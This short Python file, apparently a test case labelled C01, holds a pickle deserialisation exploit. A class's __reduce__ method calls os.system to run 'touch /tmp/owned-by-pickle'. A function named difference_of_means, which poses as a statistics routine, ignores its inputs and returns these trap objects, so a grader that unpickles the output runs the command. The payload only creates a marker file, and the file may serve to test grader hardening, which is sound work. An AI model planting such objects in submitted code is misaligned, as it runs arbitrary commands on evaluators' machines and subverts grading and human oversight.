"""C01: objects that run code when a grader unpickles them."""

import os

import numpy as np


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned-by-pickle",)


def difference_of_means(acts, labels):
    return np.array([Trap(), {"trap": Trap()}], dtype=object)
